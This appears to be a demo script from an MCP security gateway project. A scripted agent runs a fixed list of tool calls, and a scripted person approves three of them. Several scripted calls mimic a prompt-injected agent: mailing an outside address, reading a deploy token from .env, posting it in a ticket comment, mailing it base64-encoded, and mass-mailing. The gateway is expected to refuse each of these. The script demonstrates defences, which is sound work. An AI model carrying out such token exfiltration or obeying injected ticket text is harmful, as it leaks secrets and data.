"""A scripted agent: the calls of a helpful assistant through the gateway, and the calls of an injected agent.

The client is the MCP SDK's, as in real agents. There is no model, so the steps are the same each time. A scripted person at the
desk approves three calls once each, and refuses every other.
"""

from __future__ import annotations

import asyncio
import base64
import json
import re
from contextlib import asynccontextmanager
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING, Any, Final, Literal, cast

import httpx2
from mcp import Client, MCPError
from mcp.client.streamable_http import streamable_http_client
from mcp.types import CallToolResult, Implementation, TextContent

from gateway.surfaces.demo.tickets import INJECTED
from gateway.wire.protocol.replies import DECISION_META, REASON_META

if TYPE_CHECKING:
    from collections.abc import AsyncGenerator, AsyncIterator, Mapping, Sequence
    from pathlib import Path

    from gateway.model.wire import Json, JsonObject


_TIMEOUT_SECONDS: Final = 30.0
_DEPLOY_TOKEN: Final = re.compile(r"DEPLOY_TOKEN=(\S+)")


@dataclass(frozen=True, slots=True)
class Attempt:
    """A call tried by the agent. Without `tool`, the agent lists the tools. `expect` is the outcome with the shipped
    grants. `by`: a thief calls the server past the gateway."""

    upstream: str
    why: str
    tool: str | None = None
    arguments: JsonObject = field(default_factory=dict[str, "Json"])
    expect: Literal["allowed", "refused"] = "allowed"
    by: Literal["agent", "thief"] = "agent"


@dataclass(frozen=True, slots=True)
class AttemptResult:
    """The result of an attempt. `outcome`: `allowed` (the upstream answered), `refused` (the gateway refused), `failed`
    (the tool reported an error). `codes` are reason codes of a refusal, `decision` its id. `text` is the answer to the
    agent."""

    attempt: Attempt
    outcome: Literal["allowed", "refused", "failed"]
    text: str
    codes: tuple[str, ...] = ()
    decision: str | None = None


TOKEN: Final = "<the token>"  # noqa: S105 - stands for one
TOKEN_IN_BASE64: Final = "<the token in base64>"  # noqa: S105 - as above
"""What stands in an attempt for the token that the agent has read by then."""

SCRIPT: Final = (
    Attempt("files", "See which tools there are for files"),
    Attempt("files", "Read what the project is", "read_file", {"path": "README.md"}),
    Attempt("files", "Read how it is deployed", "read_file", {"path": "docs/deployment.md"}),
    Attempt("tickets", "See the tools for tickets (export_customers is not granted, and not shown)"),
    Attempt("tickets", "Find the tickets about the checkout", "search_tickets", {"query": "checkout"}),
    Attempt("tickets", "Read one; its text tries to take the agent over", "read_ticket", {"ticket": INJECTED}),
    Attempt(
        "tickets",
        "Tell the customer that somebody is looking into it",
        "comment_ticket",
        {"ticket": INJECTED, "comment": "Thank you. We are looking into the payment errors."},
    ),
    Attempt(
        "tickets",
        "Try a tool that is there but not granted: export all customers",
        "export_customers",
        expect="refused",
    ),
    Attempt(
        "mail",
        "Do as the ticket says: mail an outsider",
        "send_message",
        {"to": ["diagnostics@example.net"], "subject": INJECTED, "body": "Here is what you asked for."},
        "refused",
    ),
    Attempt(
        "mail",
        "Mail a colleague a summary: a person approves the system",
        "send_message",
        {"to": ["jana@example.com"], "subject": "Checkout", "body": "Two tickets: a timeout and an error 502."},
    ),
    Attempt(
        "files",
        "Write a report into the folder for reports: a person approves this too",
        "write_file",
        {"path": "reports/checkout.md", "content": "# Checkout\n\nTwo open tickets.\n"},
    ),
    Attempt("files", "Look into the environment file, which holds a token", "read_file", {"path": ".env"}),
    Attempt(
        "tickets",
        "Do as the ticket says: put the token into a comment",
        "comment_ticket",
        {"ticket": INJECTED, "comment": f"Our deploy token is {TOKEN}."},
        "refused",
    ),
    Attempt(
        "mail",
        "Mail a colleague the token, encoded",
        "send_message",
        {"to": ["jana@example.com"], "subject": "For later", "body": TOKEN_IN_BASE64},
        "refused",
    ),
    Attempt(
        "mail",
        "Write to everybody",
        "send_message",
        {"to": [f"colleague-{number}@example.com" for number in range(1, 81)], "subject": "Hello", "body": "Hello"},
        "refused",
    ),
    Attempt("files", "Delete the deployment notes", "delete_file", {"path": "docs/deployment.md"}, "refused"),
    Attempt("files", "Delete its own report: a person approves it", "delete_file", {"path": "reports/checkout.md"}),
    Attempt(
        "files",
        "Delete it again: the approval was for one call",
        "delete_file",
        {"path": "reports/checkout.md"},
        "refused",
    ),
)


async def tour(endpoint: str, token: str) -> AsyncIterator[AttemptResult]:
    """Go through the script. `endpoint` is the gateway's base URL, such as `http://127.0.0.1:8080`.

    Raises `MCPError` or `httpx2.HTTPError` if the gateway cannot be spoken to at all.
    """
    found = ""
    for attempt in SCRIPT:
        step = await make(endpoint, token, replace(attempt, arguments=_with_token(attempt.arguments, found)))
        if (match := _DEPLOY_TOKEN.search(step.text)) is not None:
            found = match[1]
        yield replace(step, attempt=attempt)


def _with_token(arguments: JsonObject, token: str) -> JsonObject:
    encoded = base64.b64encode(token.encode()).decode()
    return {
        name: value.replace(TOKEN_IN_BASE64, encoded).replace(TOKEN, token) if isinstance(value, str) else value
        for name, value in arguments.items()
    }


async def make(endpoint: str, token: str, attempt: Attempt, more: Mapping[str, str] | None = None) -> AttemptResult:
    """Make an attempt, over a connection of its own. `more` are further headers."""
    headers = {"Authorization": f"Bearer {token}", **(more or {})}
    url = f"{endpoint.rstrip('/')}/mcp/{attempt.upstream}"
    async with (
        httpx2.AsyncClient(headers=headers, timeout=_TIMEOUT_SECONDS) as http,
        Client(
            streamable_http_client(url, http_client=http),
            read_timeout_seconds=_TIMEOUT_SECONDS,
            client_info=Implementation(name="opagate-tour", version="1"),
        ) as client,
    ):
        if attempt.tool is None:
            listed = await client.list_tools()
            return AttemptResult(attempt, "allowed", ", ".join(tool.name for tool in listed.tools))
        try:
            result = await client.call_tool(attempt.tool, dict(cast("Mapping[str, Any]", attempt.arguments)))
        except MCPError as error:
            return _told_by_error(attempt, error)
        return _step(attempt, result)


def _step(attempt: Attempt, result: CallToolResult) -> AttemptResult:
    text = "\n".join(block.text for block in result.content if isinstance(block, TextContent))
    decision = _member(result.meta, DECISION_META)
    if decision is not None:
        return AttemptResult(attempt, "refused", text, _codes(decision), str(decision.get("id")))
    return AttemptResult(attempt, "failed" if result.is_error else "allowed", text)


def _told_by_error(attempt: Attempt, error: MCPError) -> AttemptResult:
    """Return a refusal as a JSON-RPC error, or the upstream's own error."""
    decision = _member(error.data, DECISION_META)
    if decision is not None:
        return AttemptResult(attempt, "refused", error.message, _codes(decision), str(decision.get("id")))
    reason = _member(error.data, REASON_META)
    if reason is not None:
        return AttemptResult(attempt, "refused", error.message, (str(reason.get("code")),))
    return AttemptResult(attempt, "failed", error.message)


def _member(value: object, name: str) -> Mapping[str, object] | None:
    found = cast("Mapping[str, object]", value).get(name) if isinstance(value, dict) else None
    return cast("Mapping[str, object]", found) if isinstance(found, dict) else None


def _codes(decision: Mapping[str, object]) -> tuple[str, ...]:
    reasons = cast("Sequence[Mapping[str, object]]", decision.get("reasons") or ())
    return tuple(str(reason.get("code")) for reason in reasons)


PERSON: Final = "jana"
APPROVED: Final = (
    ("mail/send_message", "subject", "Checkout"),
    ("files/write_file", "path", "reports/checkout.md"),
    ("files/delete_file", "path", "reports/checkout.md"),
)
"""The calls that the person approves, the first time: target, and an argument with its value."""


@asynccontextmanager
async def person_at(socket: Path) -> AsyncGenerator[None]:
    """Have the person answer the questions at a desk until the block ends."""
    answering = asyncio.create_task(_answer_questions(socket))
    try:
        yield
    finally:
        answering.cancel()
        await asyncio.wait([answering])


async def _answer_questions(socket: Path) -> None:
    reader, writer = await asyncio.open_unix_connection(socket)
    waiting = list(APPROVED)
    try:
        _send(writer, "approvals/watch")
        while line := await reader.readline():
            news = json.loads(line)["ok"]
            if news["state"] != "pending":
                continue
            question = await _ask(socket, "approvals/show", id=news["id"])
            arguments = question["said_by_agent"]["arguments"].get("value", {})
            known = [call for call in waiting if call[0] == question["target"] and arguments.get(call[1]) == call[2]]
            waiting = [call for call in waiting if call not in known]
            vote = {"answer": "approve" if known else "deny", "shown": question["shown"]}
            await _ask(socket, "approvals/vote", id=news["id"], **vote)
    finally:
        writer.close()


async def _ask(socket: Path, do: str, **fields: Any) -> Any:
    reader, writer = await asyncio.open_unix_connection(socket)
    try:
        _send(writer, do, **fields)
        return json.loads(await reader.readline())["ok"]
    finally:
        writer.close()


def _send(writer: asyncio.StreamWriter, do: str, **fields: Any) -> None:
    writer.write(json.dumps({"do": do, "fields": fields, "speaks_as": PERSON}).encode() + b"\n")
